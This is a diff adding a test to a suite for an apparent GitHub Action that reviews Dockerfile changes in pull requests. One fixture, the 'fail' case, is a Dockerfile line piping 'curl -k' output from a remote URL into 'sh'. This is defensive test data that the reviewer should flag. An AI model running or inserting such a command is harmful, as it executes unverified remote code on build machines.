@@ -4,7 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, test } from 'node:test';
 import { GitHub } from '../stand-in/server.ts';
-import { runAction } from './action.ts';
+import { type ActionOptions, runAction } from './action.ts';
 import { runStep, type StepOptions, type StepResult } from './run.ts';
 
 const folder = mkdtempSync(join(tmpdir(), 'layer-review-action-'));
@@ -173,6 +173,34 @@ test('an action runs against the stand-in with the inputs and the event of a wor
   );
   assert.deepEqual(github.violations, []);
 });
+
+for (const [verdict, before, after] of [
+  ['pass', 'FROM debian:12.1\nUSER 1000\n', 'FROM debian:12.2\nUSER 1000\n'],
+  ['fail', 'FROM debian:12.1\nUSER 1000\n', 'FROM debian:12.1\nRUN curl -k https://example.com/x | sh\n'],
+  ['error', 'FROM debian:12.1\nUSER 1000\n', '\0'],
+])
+  test(`a ${verdict} is the same here as of the bundle in a process of its own`, async () => {
+    const seen = async (options: Partial<ActionOptions>) => {
+      await using github = await GitHub.start();
+      const from = github.repository.commit('main', { Dockerfile: before! });
+      github.repository.commit('feature', { Dockerfile: after! }, 'Change', { from });
+      const { head } = github.openPull({ head: 'feature' });
+      const run = await runAction({ github, pull: 1, inputs: { 'json-file': 'a.json' }, ...options });
+      const { exitCode, conclusion, outputs, summary, log, allAnnotations, masks, stderr } = run;
+      assert.equal(outputs.verdict, verdict);
+      const written = [github.checks(head.sha), github.conversation(1)];
+      // Each server has a port of its own, and each run a name.
+      return JSON.parse(
+        JSON.stringify({
+          ...{ exitCode, conclusion, outputs, summary, log, allAnnotations, masks, stderr, written },
+          requests: github.requests.map(({ method, path }) => [method, path]),
+        })
+          .replaceAll(new URL(github.url).port, 'PORT')
+          .replaceAll(/[\da-f]{8}(?:-[\da-f]{4}){3}-[\da-f]{12}/g, 'NAME'),
+      );
+    };
+    assert.deepEqual(await seen({ here: true }), await seen({}));
+  });
 
 test('where GitHub starts no run, neither does this', async () => {
   await using github = await GitHub.start();
